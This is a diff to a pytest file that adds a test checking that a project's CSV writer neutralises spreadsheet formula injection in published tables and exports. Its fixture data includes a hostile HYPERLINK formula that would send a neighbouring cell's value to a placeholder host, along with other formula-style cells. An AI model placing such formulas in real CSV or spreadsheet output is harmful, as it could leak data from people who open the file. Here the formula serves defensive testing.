@@ -8,10 +8,12 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from conftest import write_tiny
 
 from growthloop import PROJECT_ROOT
 from growthloop import book as gb
 from growthloop.run.runner import chapter_paths, split_parameters
+from growthloop.staging.loader import open_dataset
 
 
 def _frame() -> pd.DataFrame:
@@ -159,3 +161,25 @@ def test_export_streams_an_engine_table_to_the_same_file_as_its_frame(tmp_path: 
     assert empty.strip() == "user_id,amount,segment"
     # exports are private: under exports/, never under the published tables/
     assert (tmp_path / gb.EXPORTS_DIR / "t" / "from_table.csv").exists()
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(tmp_path) -> None:
+    # OWASP's CSV injection rule: a text cell starting with = + - @ (or tab, CR) gets a leading
+    # apostrophe in every CSV the project writes (published tables and private exports);
+    # numbers written as text and the monitoring table's "-" stay as they are
+    from growthloop.present.tables import csv_safe
+
+    frame = pd.DataFrame({"device_os": ['=HYPERLINK("http://x/?"&A2,"点击")', "+86 138", "@SUM(A1)",
+                                        "-cmd", "iOS", "-", "-5", "\tx"],
+                          "users": [11, 12, 13, 14, 15, 16, 17, 18]})
+    safe = csv_safe(frame)
+    assert safe.device_os.tolist() == ['\'=HYPERLINK("http://x/?"&A2,"点击")', "'+86 138", "'@SUM(A1)",
+                                       "'-cmd", "iOS", "-", "-5", "'\tx"]
+    assert frame.device_os.iloc[0].startswith("=")  # the caller's frame is not changed
+    ds = open_dataset(write_tiny(tmp_path / "tiny"))
+    ch = gb.Chapter("t", ds, tmp_path / "out")
+    ch.table(frame, "hostile", counts=("users",))
+    ch.export(frame, "hostile")
+    for path in (tmp_path / "out" / "tables" / "t" / "hostile.csv", tmp_path / "out" / "exports" / "t" / "hostile.csv"):
+        text = path.read_text(encoding="utf-8-sig")
+        assert "\n=HYPERLINK" not in text and "'=HYPERLINK" in text, path
